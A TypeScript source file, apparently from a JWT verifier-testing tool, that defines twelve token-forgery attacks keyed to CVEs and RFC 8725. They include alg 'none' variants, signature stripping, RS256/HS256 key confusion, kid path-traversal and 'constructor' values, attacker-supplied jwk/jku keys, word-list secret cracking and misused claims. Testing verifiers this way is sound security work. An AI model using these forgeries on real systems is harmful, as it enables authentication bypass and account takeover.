import { inLanguage } from "@/lib/language/in-language";
import { t } from "@/lib/language/texts";
import type { Attack, Target } from "./attack";
import { crack, encode, mallory, open, signWith } from "./craft";

const now = () => Math.floor(Date.now() / 1000);

/** Whatever its algorithm is, the token is rewritten for HS256 and signed with something that is no secret. */
function confused(target: Target, kid: string | undefined, secret: string): string {
  const { header, claims } = open(target.sample);
  return signWith(secret, { ...header, alg: "HS256", kid }, mallory(claims));
}

type Change = { header?: object; claims?: object };
/** Changes to make, each under its variant's name, from the claims of a good token. */
type Changes = (claims: Record<string, unknown>) => Record<string, Change>;

/** Tokens that the rightful issuer signed, but not for here and now. */
function misused(id: string, title: string, known: string, changes: Changes): Attack {
  return {
    ...{ id, title, known },
    tokens: async (target) =>
      Promise.all(
        Object.entries(changes(open(target.sample).claims)).map(async ([variant, change]) => ({
          variant,
          token: await target.issued(change),
        })),
      ),
  };
}

/** The twelve. Each is a way in that some verifier has left open. */
export const attacks: readonly Attack[] = inLanguage(
  [
    {
      id: "signature-stripped",
      title: "Signature stripped",
      known: "CVE-2020-28042, ServiceStack",
      tokens: async ({ sample }) => {
        const { claims, parts } = open(sample);
        return [{ variant: t("no third part"), token: `${parts[0]}.${encode(mallory(claims))}.` }];
      },
    },
    {
      id: "alg-none",
      title: "alg: none, in four spellings",
      known: "CVE-2022-23540, jsonwebtoken",
      tokens: async ({ sample }) => {
        const { header, claims, parts } = open(sample);
        return ["none", "None", "NONE", "nOnE"].map((alg) => ({
          variant: alg,
          token: `${encode({ ...header, alg })}.${encode(mallory(claims))}.${parts[2]}`,
        }));
      },
    },
    {
      id: "altered-payload",
      title: "Payload altered under a good signature",
      known: "RFC 8725, 3.3",
      tokens: async ({ sample }) => {
        const { claims, parts } = open(sample);
        return [{ variant: t("name and role"), token: `${parts[0]}.${encode(mallory(claims))}.${parts[2]}` }];
      },
    },
    {
      id: "algorithm-confusion",
      title: "RS256/HS256 confusion, the public key as secret",
      known: "CVE-2015-9235, jsonwebtoken; CVE-2016-10555, jwt-simple; CVE-2023-48223, fast-jwt",
      tokens: async (target) =>
        target.publicTexts.map(({ name, text }) => ({
          variant: name,
          token: confused(target, undefined, text),
        })),
    },
    {
      id: "kid",
      title: "kid: another file, another property, no key at all",
      known: "CVE-2026-44351, fast-jwt",
      tokens: async (target) => [
        ...target.publicTexts.map(({ text }) => ({
          variant: "../public/key.pem",
          token: confused(target, "../public/key.pem", text),
        })),
        { variant: "constructor", token: confused(target, "constructor", String(Object)) },
        // What looks its key up and falls back on an empty text verifies with an empty secret.
        { variant: t("no such key"), token: confused(target, "no-such-key", "") },
      ],
    },
    {
      id: "own-key",
      title: "jwk and jku: the attacker's own key",
      known: "CVE-2018-0114, node-jose",
      tokens: async ({ sample }, { sign, publicJwk, jwksUrl }) => {
        const claims = mallory(open(sample).claims);
        const header = { typ: "JWT", alg: "RS256" };
        return [
          { variant: "jwk", token: sign({ ...header, jwk: publicJwk }, claims) },
          { variant: "jku", token: sign({ ...header, jku: jwksUrl }, claims) },
        ];
      },
    },
    {
      id: "weak-secret",
      title: "A secret out of a word list",
      known: "RFC 8725, 2.2",
      tokens: async (target, { words }) => {
        const sample = await target.issued({ header: { alg: "HS256" } });
        const { header, claims } = open(sample);
        const secret = header.alg === "HS256" ? crack(sample, words) : null;
        return secret === null
          ? []
          : [
              {
                variant: t('the secret is "{secret}"', { secret }),
                token: signWith(secret, header, mallory(claims)),
              },
            ];
      },
    },
    misused("expired", "Expired", "GHSA-5324-c68v-8w62, perry", () => ({
      "an hour ago": { claims: { iat: now() - 7_200, exp: now() - 3_600 } },
    })),
    misused("not-yet-valid", "Not yet valid", "RFC 7519, 4.1.5", () => ({
      "in an hour": { claims: { nbf: now() + 3_600 } },
    })),
    misused("wrong-audience", "For another audience", "CVE-2020-26160, jwt-go", () => ({
      aud: { claims: { aud: "another-audience" } },
      "aud, an empty list": { claims: { aud: [] } },
    })),
    misused("wrong-issuer", "From another issuer", "CVE-2025-30144, fast-jwt", ({ iss }) => ({
      iss: { claims: { iss: "another-issuer" } },
      "iss, a list with the right one in it": { claims: { iss: ["another-issuer", iss] } },
    })),
    misused("wrong-type", "Of another type, for another purpose", "RFC 8725, 3.11", () => ({
      typ: { header: { typ: "password-reset+jwt" } },
    })),
  ],
  "title",
);
